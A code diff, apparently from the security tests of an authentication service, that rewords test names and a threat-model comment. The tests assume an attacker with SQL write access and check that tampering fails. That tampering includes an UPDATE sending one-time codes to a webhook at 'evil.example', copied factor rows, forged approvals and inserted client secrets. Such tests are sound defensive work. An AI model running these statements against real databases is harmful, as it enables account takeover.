@@ -1,5 +1,6 @@
-// R-06, T-47. The attacker can run SQL as the service's own role, through an injection or a stolen login, and has not the key ring. They add,
-// copy and change rows, and want a factor of the victim's, a client of the tenant's or an assertion.
+// R-06, T-47. The attacker can run SQL as the service's own role, through an injection or a stolen login, but does not
+// have the key ring. They add, copy and change rows. They want a factor of the victim, a client of the tenant, or an
+// assertion.
 import pg from 'pg';
 import { BINDINGS } from '../../src/platform/keys/bindings.js';
 import { fromTypeId } from '../../src/platform/crypto/type-id.js';
@@ -40,7 +41,7 @@ describe('a writer in the database', () => {
     (await writer.query<pg.QueryResultRow>(text, values)).rows;
   const idOf = (typeId: string) => fromTypeId(typeId.slice(0, 3), typeId) ?? '';
 
-  /** The status of a proof that is right. */
+  /** The status of a right proof. */
   const verified = async (user: EnrolledUser) => {
     await stage.later(30 * SECOND);
     return (await stage.verify(user.userId, stage.right(user))).status;
@@ -58,7 +59,7 @@ describe('a writer in the database', () => {
     return (await call(stage.service.url, { path, token: stage.token, headers, body })).status;
   };
 
-  it('sends no code to an address of theirs', async () => {
+  it('cannot redirect codes to another address', async () => {
     expect(await isSentTo()).toBe(202);
     await sql(
       `UPDATE phone_settings SET via = 'webhook', webhook_url = 'https://evil.example/', webhook_secret = '\\x00'`,
@@ -68,7 +69,7 @@ describe('a writer in the database', () => {
     expect(await isSentTo()).toBe(202);
   });
 
-  it('gives a victim no device, by copying one of their own with its MAC', async () => {
+  it('cannot give the victim a device by copying a row with its MAC', async () => {
     const mine = await deviceOf(stage, 'mallory-2');
     await stage.later(11 * MINUTE);
     expect((await mine.call({ path: '/v1/device/challenges' })).status).toBe(200);
@@ -88,7 +89,7 @@ describe('a writer in the database', () => {
     expect(alerts.length).toBeGreaterThan(0);
   });
 
-  it('makes no authenticator of their own count for the victim, new, copied or pending', async () => {
+  it('cannot make an authenticator count for the victim, whether new, copied or pending', async () => {
     const copy = `
       INSERT INTO factors SELECT (jsonb_populate_record(held, jsonb_build_object('id', gen_random_uuid(), 'user_id', 'victim'))).*
       FROM factors AS held WHERE id = $1 RETURNING id`;
@@ -107,7 +108,7 @@ describe('a writer in the database', () => {
     expect(await verified(victim)).toBe(200);
   });
 
-  it('opens no enrolment by making the victim look as if they were never enrolled', async () => {
+  it('cannot open an enrolment by making the victim look never enrolled', async () => {
     await sql(`UPDATE users SET enrolled_at = NULL WHERE user_id = 'victim'`);
     expect((await stage.post('/v1/users/victim/factors/totp', {})).status).toBe(403);
     expect((await stage.factors('victim')).mfaRequired).toBe(true);
@@ -116,7 +117,7 @@ describe('a writer in the database', () => {
     );
   });
 
-  it('gets no ticket of a recovery that they wrote', async () => {
+  it('cannot get a ticket by inserting a recovery', async () => {
     const now = new Date(stage.nowMs);
     const recovery = {
       id: '01900000-0000-7000-8000-000000000001',
@@ -132,7 +133,7 @@ describe('a writer in the database', () => {
     expect(await listed(stage, 'victim')).toEqual([]);
   });
 
-  it('gets no assertion of an approval that they wrote', async () => {
+  it('cannot get an assertion by setting an approval', async () => {
     const { id } = await challengeDevice(stage, 'holder', { action: 'factors.add' });
     await sql(`UPDATE challenges SET status = 'approved', decided_by = $1, decided_at = $2 WHERE id = $3`, [
       idOf(device.factorId),
@@ -144,7 +145,7 @@ describe('a writer in the database', () => {
     expect(shown.text).not.toContain('assertion');
   });
 
-  it('adds no secret to a client, and no key to those that sign tokens', async () => {
+  it('cannot add a secret to a client, or a signing key', async () => {
     await sql(
       `INSERT INTO client_secrets (tenant_id, client_id, slot, secret_hash, created_at, row_mac)
        SELECT held.tenant_id, $1, 2, mine.secret_hash, mine.created_at, mine.row_mac FROM client_secrets AS mine, clients AS held
@@ -162,7 +163,7 @@ describe('a writer in the database', () => {
     await stage.service.stopLast();
   });
 
-  it('cannot have their rows adopted: what was adopted is so for good', async () => {
+  it('cannot get new rows bound by a second adoption', async () => {
     for (const text of ["DELETE FROM key_checks WHERE name LIKE 'bound %'", "UPDATE key_checks SET value = '\\x00'"])
       await expect(sql(text)).rejects.toThrow('permission denied');
     await sql(`UPDATE factors SET row_mac = NULL WHERE id = $1`, [idOf(mallory.factorId)]);
@@ -171,7 +172,7 @@ describe('a writer in the database', () => {
     expect(await verified(mallory)).toBe(422);
   });
 
-  it('is not there yet on a database of an older release, which is served, and bound once by a command', async () => {
+  it('on an older release: the rows are served, and one command binds them once', async () => {
     const tables = Object.values(BINDINGS).map(({ table, mac }) => `UPDATE ${table} SET ${mac} = NULL`);
     for (const text of [...tables, "DELETE FROM key_checks WHERE name LIKE 'bound %'"]) await stage.service.sql(text);
     const upgraded = await stage.service.addInstance();
